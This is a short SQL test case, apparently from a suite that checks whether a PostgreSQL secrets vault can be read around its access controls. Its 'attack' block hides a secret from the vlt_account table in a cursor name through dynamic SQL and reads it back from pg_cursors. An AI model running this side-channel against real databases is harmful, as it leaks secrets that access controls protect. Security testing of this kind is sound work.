-- Reads the text of a cursor that a function has opened over the value.
-- wants: read
-- attack:
BEGIN;
SELECT 1;
DO $$ BEGIN EXECUTE format('DECLARE %I CURSOR FOR SELECT 1', (SELECT secret FROM vlt_account LIMIT 1)); END $$;
SELECT name FROM pg_cursors;
COMMIT;
